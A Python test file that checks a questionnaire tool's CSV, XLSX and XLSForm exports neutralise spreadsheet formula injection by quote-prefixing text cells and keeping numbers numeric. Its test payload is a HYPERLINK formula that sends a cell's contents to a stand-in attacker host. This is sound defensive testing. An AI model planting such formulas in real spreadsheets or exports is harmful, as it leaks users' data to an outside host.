"""Questionnaire files never carry a formula: labels in the codebook and frequency tables,
free text in row exports, and every cell of an XLSForm download."""

import csv
import dataclasses
import io
from pathlib import Path

import openpyxl

from guild.questionnaires.definition.formats import definition_export, definition_parse
from guild.questionnaires.definition.types import Text
from guild.questionnaires.exports.writers import open_workbook, write_sheet, write_table_csv
from guild.questionnaires.tests.test_definitions import small

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def test_table_csv_neutralises_text_and_keeps_numbers(tmp_path: Path) -> None:
    path = tmp_path / "frequencies.csv"
    write_table_csv(path, ["code", "label", "n"], [["q1", PAYLOAD, -3], ["q2", "@x", 4]])
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows == [["code", "label", "n"], ["q1", f"'{PAYLOAD}", "-3"], ["q2", "'@x", "4"]]


def test_table_xlsx_writes_text_as_text_and_numbers_as_numbers(tmp_path: Path) -> None:
    workbook = open_workbook()
    write_sheet(workbook, "frequencies", ["label", "n"], [[PAYLOAD, -3], ["+x", 2.5]])
    path = tmp_path / "frequencies.xlsx"
    workbook.save(path)
    sheet = openpyxl.load_workbook(path)["frequencies"]
    cells = [list(row) for row in sheet.iter_rows(min_row=2)]
    assert [[c.value for c in row] for row in cells] == [[PAYLOAD, -3], ["+x", 2.5]]
    assert [[c.data_type for c in row] for row in cells] == [["s", "n"], ["s", "n"]]
    assert cells[0][0].quotePrefix and cells[1][0].quotePrefix


def test_xlsform_download_with_formula_labels_has_no_formula_and_reads_back() -> None:
    definition = small()
    section = definition.sections[0]
    question = dataclasses.replace(section.questions[0], label=Text(PAYLOAD, "@fr"))
    definition = dataclasses.replace(
        definition,
        title=Text("-1+1", "+Titre"),
        sections=(dataclasses.replace(section, questions=(question, *section.questions[1:])),),
    )

    exported = definition_export(definition, "xlsform")

    workbook = openpyxl.load_workbook(io.BytesIO(exported.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert sorted(c.value for c in cells if c.quotePrefix) == ["+Titre", "-1+1", PAYLOAD, "@fr"]
    assert definition_parse(exported.content, "xlsform") == definition
